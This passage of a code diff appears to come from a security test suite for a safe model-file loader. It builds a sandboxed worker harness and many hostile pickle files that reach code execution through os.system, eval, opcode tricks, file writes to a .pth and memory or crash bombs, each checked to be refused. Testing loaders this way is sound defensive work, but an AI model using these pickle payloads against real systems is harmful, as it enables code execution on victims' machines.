-            return position + 1
-    raise AssertionError(f"no {opcode} in the pickle")
+ZERO_OUTPUT = {
+    "kind": "ndarray",
+    "dtype": "<f8",
+    "shape": [1],
+    "base64": "AAAAAAAAAAA=",
+}
+
+# ----------------------------------------------------------------------------
+# The worker: a process that runs jobs and answers in JSON lines
+# ----------------------------------------------------------------------------
+
+WORKER = r"""
+import contextlib, copyreg, importlib, json, os, resource, runpy, subprocess, sys
+import tempfile, time, traceback, warnings
+
+warnings.simplefilter("ignore")
+setup = json.loads(sys.argv[1])
+for path in setup["sys_path"]:
+    sys.path.insert(0, path)
+for module, name, code in setup["extensions"]:
+    copyreg.add_extension(module, name, code)
+for module in setup["preload"]:
+    importlib.import_module(module)
+import versioned_estimator as ve
+
+PAGE = os.sysconf("SC_PAGE_SIZE")
 
 
-def test_a_huge_declared_length_in_the_outer_pickle_allocates_nothing(model):
-    """A 1 GiB length declared for a few-byte buffer is refused without
-    allocating it (10 bytes of a file must not cost gigabytes of memory)."""
-    data = bytearray(pickle.dumps(model, protocol=5))
-    at = declared_length_at(bytes(data), "BYTEARRAY8")
-    data[at : at + 8] = struct.pack("<Q", 2**30)
-    tracemalloc.start()
+def address_space():
+    with open("/proc/self/statm") as f:
+        return int(f.read().split()[0]) * PAGE
+
+
+def status(key):
+    with open("/proc/self/status") as f:
+        for line in f:
+            if line.startswith(key + ":"):
+                return int(line.split()[1]) * 1024
+    return 0
+
+
+answers = os.fdopen(os.dup(1), "w")
+devnull = os.open(os.devnull, os.O_WRONLY)
+os.dup2(devnull, 1)
+
+
+def say(message):
+    answers.write(json.dumps(message, default=repr) + "\n")
+    answers.flush()
+
+
+def error_of(exc):
+    return {
+        "type": type(exc).__name__,
+        "module": type(exc).__module__,
+        "ours": isinstance(exc, ve.VersionedEstimatorError),
+        "message": str(exc)[:600],
+    }
+
+
+def command_line(argv, process):
+    if process:
+        done = subprocess.run(
+            [sys.executable, "-m", "versioned_estimator", *argv],
+            capture_output=True, timeout=setup["cli_timeout"],
+        )
+        return {
+            "code": done.returncode,
+            "stdout": done.stdout.decode("utf-8", "replace"),
+            "stderr": done.stderr.decode("utf-8", "replace"),
+            "uncaught": None,
+        }
+    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
+    sys.stdout.flush()
+    sys.stderr.flush()
+    saved = os.dup(1), os.dup(2)
+    os.dup2(out.fileno(), 1)
+    os.dup2(err.fileno(), 2)
+    argv_before = sys.argv
+    sys.argv = ["versioned-estimator", *argv]
+    code, uncaught = None, None
     try:
-        with pytest.raises(EnvelopeError):
-            load(bytes(data))
-        peak = tracemalloc.get_traced_memory()[1]
+        try:
+            runpy.run_module("versioned_estimator", run_name="__main__")
+            code = 0
+        except SystemExit as exc:
+            code = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
+    except BaseException as exc:  # python -m would print a traceback, exit 1
+        uncaught = error_of(exc)
+        code = 1
+        traceback.print_exc()
     finally:
-        tracemalloc.stop()
-    assert peak < 200_000_000
+        sys.stdout.flush()
+        sys.stderr.flush()
+        os.dup2(saved[0], 1)
+        os.dup2(saved[1], 2)
+        os.close(saved[0])
+        os.close(saved[1])
+        sys.argv = argv_before
+    out.seek(0)
+    err.seek(0)
+    return {
+        "code": code,
+        "stdout": out.read().decode("utf-8", "replace"),
+        "stderr": err.read().decode("utf-8", "replace"),
+        "uncaught": uncaught,
+    }
 
 
-def test_a_compressed_file_that_ends_early_is_refused_quickly(model, tmp_path):
-    """A zlib stream that ends before the pickle does, followed by one more
-    byte, is an EnvelopeError within a second (joblib.load itself hangs)."""
-    raw = io.BytesIO()
-    joblib.dump(model, raw)
-    whole = raw.getvalue()
-    path = tmp_path / "early.joblib"
-    path.write_bytes(zlib.compress(whole[:-16]) + b"\x00")
-    assert read_envelope(path) == model.envelope
-    with time_limit(1), pytest.raises(EnvelopeError):
-        load(path)
+def run(job):
+    kind, path, args = job["kind"], job["path"], job.get("args") or {}
+    if kind == "read_envelope":
+        return {"estimator_class": ve.read_envelope(path).estimator_class}
+    if kind == "audit":
+        report = ve.audit(path, **args)
+        return {
+            "ok": report.ok, "globals": report.globals, "untrusted": report.untrusted,
+            "dangerous": report.dangerous, "error": report.error,
+        }
+    if kind == "load":
+        model = ve.load(path, **args)
+        return {"loaded": type(model.__dict__.get("estimator_")).__name__}
+    if kind in ("cli", "cli-process"):
+        return command_line(job["argv"], kind == "cli-process")
+    if kind == "html":
+        from versioned_estimator._html import envelope_card
+        return {"html": envelope_card(ve.read_envelope(path).to_dict(), state="sealed")}
+    if kind == "exec":
+        space = {"path": path, "args": args, "value": None}
+        exec(job["code"], space)
+        return {"value": space["value"]}
+    raise ValueError(kind)
+
+
+def serve():
+    # The worker proper: a child of this process, forked after the imports,
+    # so that a crash or a hang costs a fork, not a restart.
+    os.setpgid(0, 0)
+    limit = address_space() + setup["memory"]
+    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
+    stdin = os.fdopen(0, "r")
+    say({"ready": os.getpid()})
+    for line in stdin:
+        job = json.loads(line)
+        before = set(sys.modules)
+        try:
+            with open("/proc/self/clear_refs", "w") as f:
+                f.write("5")
+        except OSError:
+            pass
+        rss = status("VmRSS")
+        start = time.perf_counter()
+        answer = {}
+        try:
+            answer["value"] = run(job)
+        except BaseException as exc:
+            answer["error"] = error_of(exc)
+            answer["traceback"] = traceback.format_exc()[-2000:]
+        answer["elapsed"] = time.perf_counter() - start
+        answer["peak"] = max(0, status("VmHWM") - rss)
+        answer["imported"] = [
+            m for m in job.get("forbid", []) if m not in before and m in sys.modules
+        ]
+        say(answer)
+
+
+while True:
+    pid = os.fork()
+    if pid == 0:
+        try:
+            serve()
+        finally:
+            os._exit(0)
+    _, code = os.waitpid(pid, 0)
+    code = os.waitstatus_to_exitcode(code)
+    if code == 0:
+        break  # the parent closed stdin: done
+    say({"died": code})
+"""
+
+
+@dataclass
+class Job:
+    attack: Attack
+    label: str
+    kind: str
+    path: str = ""
+    args: dict[str, Any] | None = None
+    argv: list[str] | None = None
+    code: str = ""
+    timeout: float = HANG
+
+    def message(self) -> str:
+        return json.dumps(
+            {
+                "kind": self.kind,
+                "path": self.path,
+                "args": self.args,
+                "argv": self.argv,
+                "code": self.code,
+                "forbid": self.attack.forbid,
+            }
+        )
+
+
+@dataclass
+class Outcome:
+    """What one job did, seen from the worker and from outside it."""
+
+    job: Job
+    status: str  # "done", "hang", "crash", "not run"
+    answer: dict[str, Any] = field(default_factory=dict)
+    created: list[str] = field(default_factory=list)
+    connections: int = 0
+    detail: str = ""
+    wall: float = 0.0
+
+    @property
+    def error(self) -> dict[str, Any] | None:
+        return self.answer.get("error")
+
+    @property
+    def value(self) -> Any:
+        return self.answer.get("value")
+
+
+def snapshot(folder: Path) -> dict[str, tuple[int, int]]:
+    found = {}
+    for path in folder.rglob("*"):
+        with contextlib.suppress(OSError):
+            info = path.lstat()
+            found[str(path)] = (info.st_size, info.st_mtime_ns)
+    return found
+
+
+class Worker:
+    """A zygote process that imported everything once, and the worker it forked;
+    after a crash or a hang the zygote forks a fresh worker."""
+
+    def __init__(self, setup: dict[str, Any], log: Path) -> None:
+        self.setup = setup
+        self.log = log
+        self.proc: subprocess.Popen[bytes] | None = None
+        self.child: int | None = None
+        self.pending = b""
+
+    def start(self) -> None:
+        env = {k: v for k, v in os.environ.items() if not k.startswith("VERSIONED_")}
+        env.update(
+            {
+                KEY_VARIABLE: KEY,
+                "PYTHONDONTWRITEBYTECODE": "1",
+                "OMP_NUM_THREADS": "1",
+                "OPENBLAS_NUM_THREADS": "1",
+                "MKL_NUM_THREADS": "1",
+            }
+        )
+        with open(self.log, "ab") as log:
+            self.proc = subprocess.Popen(
+                [sys.executable, "-c", WORKER, json.dumps(self.setup)],
+                stdin=subprocess.PIPE,
+                stdout=subprocess.PIPE,
+                stderr=log,
+                env=env,
+                cwd=self.setup["cwd"],
+                start_new_session=True,
+            )
+        self.pending = b""
+        self.child = None
+        self.wait_ready()
+
+    def line(self, timeout: float) -> dict[str, Any] | None:
+        """The next line of the zygote or its worker, None after ``timeout``."""
+        proc = self.proc
+        assert proc is not None
+        assert proc.stdout is not None
+        deadline = time.monotonic() + timeout
+        fd = proc.stdout.fileno()
+        while b"\n" not in self.pending:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return None
+            ready, _, _ = select.select([fd], [], [], left)
+            if not ready:
+                continue
+            chunk = os.read(fd, 1 << 20)
+            if not chunk:
+                raise RuntimeError("the zygote died" + log_tail(self.log))
+            self.pending += chunk
+        line, _, self.pending = self.pending.partition(b"\n")
+        return json.loads(line)  # type: ignore[no-any-return]
+
+    def wait_ready(self) -> None:
+        message = self.line(600)
+        if message is None or "ready" not in message:
+            raise RuntimeError(f"no worker: {message}" + log_tail(self.log))
+        self.child = int(message["ready"])
+
+    def kill_child(self) -> None:
+        if self.child is not None:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(self.child, signal.SIGKILL)
+            self.child = None
+            died = self.line(60)
+            assert died is not None, "the zygote did not see its worker die"
+            assert "died" in died, died
+            self.wait_ready()
+
+    def stop(self) -> None:
+        proc, self.proc = self.proc, None
+        if proc is None:
+            return
+        if self.child is not None:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(self.child, signal.SIGKILL)
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(proc.pid, signal.SIGKILL)
+        proc.wait()
+        for stream in (proc.stdin, proc.stdout):
+            with contextlib.suppress(OSError):
+                stream.close()  # type: ignore[union-attr]
+
+    def ask(self, job: Job, fresh: bool = False) -> tuple[str, dict[str, Any], str]:
+        if self.proc is None:
+            self.start()
+        elif fresh:
+            self.kill_child()
+        proc = self.proc
+        assert proc is not None
+        assert proc.stdin is not None
+        proc.stdin.write(job.message().encode() + b"\n")
+        proc.stdin.flush()
+        message = self.line(job.timeout)
+        if message is None:
+            self.kill_child()
+            return "hang", {}, f"no answer within {job.timeout:.0f} s"
+        if "died" in message:
+            self.child = None
+            self.wait_ready()
+            detail = f"the worker died with exit status {message['died']}"
+            return "crash", {}, detail + log_tail(self.log)
+        return "done", message, ""
+
+
+def count_connections(listener: socket.socket) -> int:
+    count = 0
+    while True:
+        try:
+            conn, _ = listener.accept()
+        except (BlockingIOError, InterruptedError):
+            return count
+        conn.close()
+        count += 1
+
+
+def run_jobs(groups: list[list[Job]], setup: dict[str, Any], logs: Path) -> None:
+    """Run each group of jobs in its own worker, the groups in parallel."""
+
+    def drive(index: int, jobs: list[Job]) -> None:
+        worker = Worker(setup, logs / f"worker-{setup['name']}-{index}.log")
+        hangs: dict[str, int] = {}
+        try:
+            for job in jobs:
+                attack = job.attack
+                seen = hangs.get(attack.name, 0)
+                if seen >= 2:
+                    attack.outcomes.append(
+                        Outcome(job, "not run", detail="the attack hung twice already")
+                    )
+                    continue
+                if seen:
+                    job.timeout = min(job.timeout, HANG_AGAIN)
+                before = {}
+                for folder in attack.watch:
+                    before.update(snapshot(folder))
+                began = time.monotonic()
+                status, answer, detail = worker.ask(job, fresh=job.label == "control")
+                wall = time.monotonic() - began
+                if status == "hang":
+                    hangs[attack.name] = seen + 1
+                outcome = Outcome(job, status, answer, detail=detail, wall=wall)
+                after = {}
+                for folder in attack.watch:
+                    after.update(snapshot(folder))
+                outcome.created = sorted(
+                    path for path, info in after.items() if before.get(path) != info
+                )
+                for path in outcome.created:
+                    with contextlib.suppress(OSError):
+                        if os.path.isdir(path) and not os.path.islink(path):
+                            continue
+                        os.unlink(path)
+                outcome.connections = count_connections(attack.listener)
+                attack.outcomes.append(outcome)
+        finally:
+            worker.stop()
+
+    threads = [
+        threading.Thread(target=drive, args=(i, jobs)) for i, jobs in enumerate(groups)
+    ]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def log_tail(log: Path) -> str:
+    try:
+        tail = log.read_bytes()[-600:].decode("utf-8", "replace")
+    except OSError:
+        return ""
+    return "; worker stderr: ..." + " ".join(tail.split())[-400:]
 
 
 # ----------------------------------------------------------------------------
-# 4. Random damage: only this package's errors, never a hang
+# Attacks
 # ----------------------------------------------------------------------------
+
+ENTRIES = (
+    "read_envelope",
+    "audit",
+    "load",
+    "cli inspect",
+    "cli check",
+    "cli audit",
+    "cli requirements",
+    "cli diff",
+    "cli verify",
+)
+HEAD = ("read_envelope", "cli inspect", "cli check", "cli requirements", "cli diff")
+
+
+@dataclass
+class Control:
+    """How the attack is shown to work without this package's safe path.
+
+    ``expect``: ``marker`` (a file appears), ``connect``, ``crash``, ``hang``,
+    ``memory`` (MemoryError or killed), ``hang or memory``, or ``check``
+    (the code sets ``value = True``).
+    """
+
+    expect: str
+    code: str
+    timeout: float = 60.0
+
+
+@dataclass
+class Attack:
+    name: str
+    group: int  # the class of the issue (1 to 7), 0 for baseline files
+    summary: str
+    path: Path | None = None
+    entries: tuple[str, ...] = ENTRIES
+    load_args: dict[str, Any] = field(default_factory=dict)
+    extra: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)
+    control: Control | None = None
+    raises: dict[str, set[str]] = field(default_factory=dict)
+    codes: dict[str, set[int]] = field(default_factory=dict)
+    check: Callable[[str, Outcome], list[str]] | None = None
+    forbid: list[str] = field(default_factory=list)
+    max_seconds: float | None = None
+    max_peak: int | None = None
+    hang: float = HANG
+    watch: list[Path] = field(default_factory=list)
+    listener: socket.socket = field(default=None)  # type: ignore[assignment]
+    outcomes: list[Outcome] = field(default_factory=list)
+    controls: list[Outcome] = field(default_factory=list)
+    built: str = ""  # why the attack could not be built, if it could not
+
+
+@dataclass
+class Corpus:
+    root: Path
+    benign: Path
+    small: Parts
+    small_model: Any
+    iris: tuple[Any, Any]
+    port: dict[str, int] = field(default_factory=dict)
+    attacks: dict[str, Attack] = field(default_factory=dict)
+
+    def folder(self, name: str) -> Path:
+        path = self.root / "attacks" / name
+        path.mkdir(parents=True, exist_ok=True)
+        return path
+
+
+BUILDERS: dict[str, Callable[[Corpus, Attack], None]] = {}
+SPEC: dict[str, tuple[int, str]] = {}
+
+
+def attack(name: str, group: int, summary: str) -> Callable[..., Any]:
+    def register(builder: Callable[[Corpus, Attack], None]) -> Any:
+        assert name not in BUILDERS, name
+        BUILDERS[name] = builder
+        SPEC[name] = (group, summary)
+        return builder
+
+    return register
+
+
+def marker(corpus: Corpus, atk: Attack) -> Path:
+    return corpus.folder(atk.name) / "MARKER"
+
+
+def write(path: Path, obj: Any, how: str = "joblib") -> Path:
+    if how == "joblib":
+        joblib.dump(obj, path)
+    elif how == "pickle":
+        path.write_bytes(pickle.dumps(obj, protocol=5))
+    else:
+        raise ValueError(how)
+    return path
+
+
+PICKLE_CONTROL = "import pickle\nobj = pickle.loads(open(path, 'rb').read())\n"
+STREAM_CONTROL = (
+    "import pickle\n"
+    "import versioned_estimator as ve\n"
+    "from versioned_estimator._reader import read_parts\n"
+    "from versioned_estimator._sources import open_source\n"
+    "obj = pickle.loads(read_parts(open_source(path), skip_buffers=True).stream)\n"
+)
+JOBLIB_CONTROL = (
+    "import joblib\nobj = joblib.load(path)\nobj._materialize()\n"  # plain, lazy path
+)
+
+
+def inner_attack(
+    corpus: Corpus,
+    atk: Attack,
+    stream: bytes,
+    *,
+    names: tuple[str, ...] = (),
+    control: str | None = "marker",
+    control_code: str = STREAM_CONTROL,
+    envelope: Callable[[dict[str, Any]], Any] | None = None,
+    base: Parts | None = None,
+    violation: bool = False,
+) -> None:
+    """A real model file whose inner stream is ``stream`` (checksums valid):
+    ``load`` must refuse it before anything runs, ``audit`` must say so."""
+    atk.path = write(
+        corpus.folder(atk.name) / "model.joblib",
+        assemble(base or corpus.small, stream=stream, buffers=[], envelope=envelope),
+    )
+    atk.raises = {"load": {"UntrustedGlobalError"}, "audit": set()}
+    atk.codes = {"cli audit": {1}, "cli verify": {1}}
+    if control is not None:
+        atk.control = Control(control, control_code)
+
+    def audited(label: str, outcome: Outcome) -> list[str]:
+        if label != "audit" or outcome.error is not None or outcome.status != "done":
+            return []
+        report = outcome.value
+        problems = []
+        if report["ok"]:
+            problems.append(f"audit says ok for {report['globals']}")
+        for name in names:
+            if name not in report["untrusted"]:
+                problems.append(f"audit does not list {name!r} as untrusted")
+        if violation and report["error"] is None:
+            problems.append("audit reports no refused use")
+        return problems
+
+    atk.check = audited
+
+
+def head_file(corpus: Corpus, atk: Attack, body: bytes) -> None:
+    """A file that starts as a wrapped model does, then ``body``."""
+    start = PROTO5 + glob("versioned_estimator", "_rebuild") + MARK
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(start + body)
+
+
+def outer_attack(
+    corpus: Corpus,
+    atk: Attack,
+    *,
+    envelope: Callable[[dict[str, Any]], Any] | None = None,
+    stream: Any = None,
+    buffers: list[Any] | None = None,
+    holes: dict[int, bytes] | None = None,
+    control: Control | None = None,
+    compress: str | None = None,
+) -> None:
+    """A model file with a hostile outer pickle: every reader must refuse it."""
+    data = dumps_fast(
+        assemble(
+            corpus.small,
+            envelope=envelope,
+            stream=stream,
+            buffers=buffers,
+            recompute=False,
+        )
+    )
+    data = splice(data, holes or {})
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    if compress == "gzip":
+        data = gzip.compress(data)
+    atk.path.write_bytes(data)
+    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
+    atk.codes = {"cli audit": {2}, "cli verify": {2}}
+    atk.control = control
+
+
+# -- 1. the outer reader ---------------------------------------------------------------
+
+
+@attack("outer-system-first-global", 1, "a plain os.system pickle")
+def _(corpus: Corpus, atk: Attack) -> None:
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(PROTO5 + system(marker(corpus, atk)) + STOP)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
+    atk.control = Control("marker", PICKLE_CONTROL)
+
+
+@attack("outer-system-in-envelope", 1, "os.system called inside the envelope")
+def _(corpus: Corpus, atk: Attack) -> None:
+    command = Call(os.system, touch(marker(corpus, atk)))
+    outer_attack(
+        corpus,
+        atk,
+        envelope=lambda e: e["metadata"].update(owner=command),
+        control=Control("marker", PICKLE_CONTROL),
+    )
+    atk.raises["read_envelope"] = {"EnvelopeError"}
+
+
+@attack("outer-eval-as-stream", 1, "builtins.eval where the stream belongs")
+def _(corpus: Corpus, atk: Attack) -> None:
+    code = f"__import__('os').system({touch(marker(corpus, atk))!r})"
+    outer_attack(
+        corpus, atk, stream=Call(eval, code), control=Control("marker", PICKLE_CONTROL)
+    )
+
+
+@attack("outer-memmap-creates-file", 1, "numpy.memmap(path, 'w+') as a buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    target = corpus.folder(atk.name) / "created-by-memmap.bin"
+    memmap = Call(np.memmap, str(target), np.uint8, "w+", 0, (64,))
+    outer_attack(
+        corpus, atk, buffers=[memmap], control=Control("marker", PICKLE_CONTROL)
+    )
+
+
+@attack("outer-tofile-writes-pth", 1, "ndarray.tofile(site-packages/x.pth) as a buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    site = corpus.folder(atk.name) / "site-packages"
+    site.mkdir(exist_ok=True)
+    content = f"import os; os.system({touch(marker(corpus, atk))!r})\n".encode()
+    tofile = Call(getattr, np.frombuffer(content, np.uint8), "tofile")
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Call(tofile, str(site / "evil.pth"))],
+        control=Control("marker", PICKLE_CONTROL),
+    )
+
+
+@attack("outer-ndarray-call", 1, "numpy.ndarray((2**36,)) called as a buffer")
+def _(corpus: Corpus, atk: Attack) -> None:
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Call(np.ndarray, (2**36,), np.uint8)],
+        control=Control("memory", PICKLE_CONTROL),
+    )
+
+
+@attack("outer-object-dtype-buffer", 1, "a buffer of a forged object dtype (SIGSEGV)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    frombuffer = call(
+        glob("numpy._core.numeric", "_frombuffer"),
+        raw(b"A" * 16),
+        forged_object_dtype(),
+        tup(integer(2)),
+        text("C"),
+    )
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Hole(0)],
+        holes={0: frombuffer},
+        control=Control(
+            "crash", PICKLE_CONTROL + "print(repr(obj.__dict__['_sealed'].buffers))\n"
+        ),
+    )
+
+
+@attack("outer-build-on-class", 1, "BUILD sets attributes of an imported class")
+def _(corpus: Corpus, atk: Attack) -> None:
+    ops = glob("sklearn._loss.loss", "HalfSquaredError")
+    ops += tup(NONE, EMPTY_DICT + text("__ve_pwned__") + TRUE + SETITEM) + BUILD
+    check = (
+        "try:\n    " + PICKLE_CONTROL.replace("\n", "\n    ").rstrip() + "\n"
+        "except Exception:\n    pass\n"
+        "from sklearn._loss.loss import HalfSquaredError\n"
+        "value = getattr(HalfSquaredError, '__ve_pwned__', False) is True\n"
+    )
+    outer_attack(
+        corpus, atk, buffers=[Hole(0)], holes={0: ops}, control=Control("check", check)
+    )
+
+
+@attack("outer-setitem-on-environ", 1, "SETITEM on os.environ (not built by the file)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    ops = glob("os", "environ") + text("VE_PWNED") + text("1") + SETITEM
+    check = (
+        "try:\n    " + PICKLE_CONTROL.replace("\n", "\n    ").rstrip() + "\n"
+        "except Exception:\n    pass\n"
+        "import os\nvalue = os.environ.get('VE_PWNED') == '1'\n"
+    )
+    outer_attack(
+        corpus, atk, buffers=[Hole(0)], holes={0: ops}, control=Control("check", check)
+    )
+
+
+@attack("outer-amend-envelope-after-head", 1, "SETITEM on the envelope after the head")
+def _(corpus: Corpus, atk: Attack) -> None:
+    base = corpus.small.copy()
+    data = pickle.dumps(assemble(base, recompute=False), protocol=5)
+    memo = 0
+    index = None
+    previous = None
+    for op, _, _ in pickletools.genops(data):
+        if op.name == "MEMOIZE":
+            if previous == "EMPTY_DICT" and index is None:
+                index = memo
+            memo += 1
+        previous = op.name
+    assert index is not None
+    amend = get(index) + text("metadata") + EMPTY_DICT
+    amend += text("amended") + TRUE + SETITEM + SETITEM + POP
+    atk.path = corpus.folder(atk.name) / "model.pkl"
+    atk.path.write_bytes(data[:-1] + amend + STOP)
+    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
+    atk.codes = {"cli audit": {2}, "cli verify": {2}}
+    check = PICKLE_CONTROL + "value = obj.envelope.metadata == {'amended': True}\n"
+    atk.control = Control("check", check)
+
+
+@attack("outer-inst-opcode", 1, "INST posix.system (protocol 0)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    ops = MARK + text(touch(marker(corpus, atk))) + b"iposix\nsystem\n"
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Hole(0)],
+        holes={0: ops},
+        control=Control("marker", PICKLE_CONTROL),
+    )
+
+
+@attack("outer-obj-opcode", 1, "OBJ posix.system")
+def _(corpus: Corpus, atk: Attack) -> None:
+    ops = MARK + glob("posix", "system") + text(touch(marker(corpus, atk))) + b"o"
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Hole(0)],
+        holes={0: ops},
+        control=Control("marker", PICKLE_CONTROL),
+    )
+
+
+@attack("outer-ext-code", 1, "EXT1 of a registered extension (posix.system)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    ops = b"\x82" + bytes([EXT_CODE]) + text(touch(marker(corpus, atk))) + TUPLE1
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Hole(0)],
+        holes={0: ops + REDUCE},
+        control=Control("marker", PICKLE_CONTROL),
+    )
+
+
+@attack("outer-persid-newobj-ex", 1, "BINPERSID and NEWOBJ_EX in the outer pickle")
+def _(corpus: Corpus, atk: Attack) -> None:
+    newobj = glob("subprocess", "Popen") + tup(text("true")) + EMPTY_DICT + b"\x92"
+    outer_attack(
+        corpus,
+        atk,
+        buffers=[Hole(0), Hole(1)],
+        holes={0: text("pid") + b"Q", 1: newobj},
+    )
+
+
+@attack("outer-codec-punycode", 1, "_codecs.encode(text, 'punycode'): super-linear")
+def _(corpus: Corpus, atk: Attack) -> None:
+    payload = "".join(chr(0x100 + i) for i in range(8000))
+    ops = call(glob("_codecs", "encode"), text(payload), text("punycode"))
+    outer_attack(
+        corpus,
+        atk,
+        stream=Hole(0),
+        holes={0: ops},
+        control=Control("hang", PICKLE_CONTROL, CONTROL_HANG),
+    )
+
+
+@attack("outer-huge-memo-index", 1, "LONG_BINPUT 2**28 in the head (4 KB -> 2 GB)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    head_file(corpus, atk, EMPTY_DICT + put(2**28) + text("x") + STOP)
+    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
+    atk.control = Control("memory", PICKLE_CONTROL)
+
+
+# -- 2. the allow-list and its gadgets -------------------------------------------------
+
+
+@attack("inner-system", 2, "posix.system in the inner stream (REDUCE)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + system(marker(corpus, atk)) + STOP
+    inner_attack(corpus, atk, stream, names=("posix.system",))
+    atk.control = Control("marker", JOBLIB_CONTROL)
+
+
+@attack("inner-eval", 2, "builtins.eval of a string")
+def _(corpus: Corpus, atk: Attack) -> None:
+    code = f"__import__('os').system({touch(marker(corpus, atk))!r})"
+    stream = PROTO5 + call(glob("builtins", "eval"), text(code)) + STOP
+    inner_attack(corpus, atk, stream, names=("builtins.eval",))
+
+
+@attack("inner-getattr-chain", 2, "getattr(__import__('os'), 'system')(...)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    module = call(glob("builtins", "__import__"), text("os"))
+    function = call(glob("builtins", "getattr"), module, text("system"))
+    stream = PROTO5 + function + tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, names=("builtins.getattr", "builtins.__import__"))
+
+
+@attack("inner-dotted-name", 2, "the dotted name 'posix' 'system.__call__'")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = call(glob("posix", "system.__call__"), text(touch(marker(corpus, atk))))
+    inner_attack(corpus, atk, PROTO5 + stream + STOP, names=("posix.system.__call__",))
+
+
+@attack("inner-name-imported-into-sklearn", 2, "sklearn._config.os.system")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = call(
+        glob("sklearn._config", "os.system"), text(touch(marker(corpus, atk)))
+    )
+    inner_attack(
+        corpus, atk, PROTO5 + stream + STOP, names=("sklearn._config.os.system",)
+    )
+
+
+@attack("inner-memo-shadowing", 2, "an allowed name memoized, then overwritten")
+def _(corpus: Corpus, atk: Attack) -> None:
+    allowed = glob("sklearn.linear_model._logistic", "LogisticRegression")
+    stream = PROTO5 + allowed + b"\x94" + POP + glob("posix", "system") + b"q\x00" + POP
+    stream += b"h\x00" + tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, names=("posix.system",))
+
+
+@attack("inner-global-opcode", 2, "a text GLOBAL opcode inside a protocol 5 stream")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + b"cposix\nsystem\n" + tup(text(touch(marker(corpus, atk))))
+    inner_attack(corpus, atk, stream + REDUCE + STOP, names=("posix.system",))
+
+
+@attack("inner-inst-opcode", 2, "INST posix.system")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + MARK + text(touch(marker(corpus, atk))) + b"iposix\nsystem\n"
+    inner_attack(corpus, atk, stream + STOP, names=("posix.system",))
+
+
+@attack("inner-obj-opcode", 2, "OBJ posix.system")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + MARK + glob("posix", "system") + text(touch(marker(corpus, atk)))
+    inner_attack(corpus, atk, stream + b"o" + STOP, names=("posix.system",))
+
+
+@attack("inner-newobj-ex", 2, "NEWOBJ_EX of subprocess.Popen")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + glob("subprocess", "Popen") + tup(text("true")) + EMPTY_DICT
+    inner_attack(
+        corpus, atk, stream + b"\x92" + STOP, names=("subprocess.Popen",), control=None
+    )
+
+
+@attack("inner-ext-code", 2, "EXT1 of a registered extension (posix.system)")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + b"\x82" + bytes([EXT_CODE])
+    stream += tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, names=("posix.system",))
+
+
+@attack("inner-ext-code-cached", 2, "EXT1 of an extension this process resolved before")
+def _(corpus: Corpus, atk: Attack) -> None:
+    stream = PROTO5 + b"\x82" + bytes([EXT_CACHED])
+    stream += tup(text(touch(marker(corpus, atk)))) + REDUCE + STOP
+    inner_attack(corpus, atk, stream, names=("os.system",))
+    # Any earlier unpickling that met the code (here: one that only resolves
+    # it, calling nothing) leaves the function in copyreg's cache.
+    prime = (
+        "import pickle\nimport versioned_estimator as ve\n"
+        f"pickle.loads(bytes([0x80, 2, 0x82, {EXT_CACHED}, 0x2E]))\n"
+    )
+    atk.entries = ()
+    atk.extra = [
+        (
+            "audit after the code was resolved",
+            "exec",
+            {"code": prime + "ve.audit(path)\n"},
+        ),
+        (
+            "load after the code was resolved",
+            "exec",
+            {"code": prime + "ve.load(path)\n"},
+        ),
+    ]
+    atk.raises = {"load after the code was resolved": {"UntrustedGlobalError"}}
+
+    def flagged(label: str, outcome: Outcome) -> list[str]:
+        return []
+
+    atk.check = flagged
+
+
+@attack("inner-persid", 2, "BINPERSID in the inner stream")
+def _(corpus: Corpus, atk: Attack) -> None:
+    inner_attack(corpus, atk, PROTO5 + text("x") + b"Q" + STOP, control=None)
+
+
+@attack("inner-build-on-class", 2, "BUILD on an allowed class object")
+def _(corpus: Corpus, atk: Attack) -> None:
